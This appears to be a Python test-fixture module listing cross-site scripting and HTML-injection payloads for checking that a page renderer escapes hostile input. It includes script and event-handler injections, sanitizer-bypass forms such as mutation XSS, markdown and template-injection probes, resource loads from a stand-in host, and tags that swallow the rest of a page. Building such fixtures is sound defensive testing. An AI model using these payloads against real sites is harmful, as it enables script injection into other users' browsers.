"""Texts that would run a script, load something or swallow a page. `hostile_archive` has them in every field.

Each script opens a dialog with its number, so that a test sees which of them ran.
"""

from __future__ import annotations

import re

# In each, N stands for the number of the payload. Those of the first list leave what follows them alone.
_OPEN = (
    "<script>alert(N)</script>",
    "</title><script>alert(N)</script>",
    "</script><script>alert(N)</script>",
    '"><script>alert(N)</script>',
    "'><script>alert(N)</script>",
    "--><script>alert(N)</script>",
    "]]><script>alert(N)</script>",
    "<scr<script>ipt>alert(N)</scr</script>ipt>",
    "<ScRiPt/x>alert(N)</sCrIpT>",
    "<script src=data:text/javascript,alert(N)></script>",
    "<script src=//payload.example/N.js></script>",
    "<img src=x onerror=alert(N)>",
    "<img/src='x'/onerror=alert(N)>",
    '" onmouseover=alert(N) autofocus onfocus=alert(N) x="',
    "' onmouseover=alert(N) autofocus onfocus=alert(N) x='",
    "<svg onload=alert(N)></svg>",
    "<svg><script>alert(N)</script></svg>",
    "<svg><animate onbegin=alert(N) attributeName=x dur=1s></svg>",
    "<input autofocus onfocus=alert(N)>",
    "<details open ontoggle=alert(N)><summary>x</summary></details>",
    "<body onload=alert(N)>",
    "<video src=x onerror=alert(N)></video>",
    "<audio src=//payload.example/N.mp3 autoplay></audio>",
    "<marquee onstart=alert(N)>x</marquee>",
    "<object data=javascript:alert(N)></object>",
    "<embed src=//payload.example/N.swf>",
    "<iframe src=javascript:alert(N)></iframe>",
    "<iframe srcdoc='<script>alert(N)</script>'></iframe>",
    "<img src=//payload.example/N.png>",
    "<link rel=stylesheet href=//payload.example/N.css>",
    "<style>@import '//payload.example/N.css';</style>",
    "<p style='background:url(//payload.example/N.png)'>x</p>",
    "<base href=//payload.example/N/>",
    "<form action=//payload.example/N><button autofocus>x</button></form>",
    "<a href=javascript:alert(N)>x</a>",
    "[x](javascript:alert(N)) ![x](//payload.example/N.png) <javascript:alert(N)>",
    '![x](https://payload.example/N.png) ![x" onerror="alert(N)](x.png)',
    "x {: onclick=alert(N) onmouseover=alert(N) }",
    "{{ ''.__class__ }}{% raw %}<script>alert(N)</script>",
    "&lt;script&gt;alert(N)&lt;/script&gt;",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(N)&gt;"></table></math>',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(N)>"></style></svg>',
    '<noscript><p title="</noscript><img src=x onerror=alert(N)>"></noscript>',
    "<math><annotation-xml encoding=text/html><img src=x onerror=alert(N)></annotation-xml></math>",
    '<pre class=mermaid>graph LR; A["<img src=x onerror=alert(N)>"]</pre>',
    "<div class=md-overlay data-md-component=search-result id=__config>{}</div>",
)
# These would take in all that stands after them.
SWALLOWING = (
    "<textarea>",
    "<title>",
    "<xmp>",
    "<plaintext>",
    "<!--",
    "<style>",
    "<script>",
    "<noscript>",
    "<template>",
    "<select>",
    "<svg><style>",
    "<iframe>",
    "</div></article></main></body></html>",
)
PAYLOADS = tuple(re.sub(r"\bN\b", str(number), text) for number, text in enumerate(_OPEN, start=1000))
# What runs or loads by itself where nothing forbids it, in the body of a page.
LIVE = tuple(
    number for number, text in enumerate(_OPEN, start=1000) if text.startswith(("<img src=x", "<svg on", "<script>a"))
)
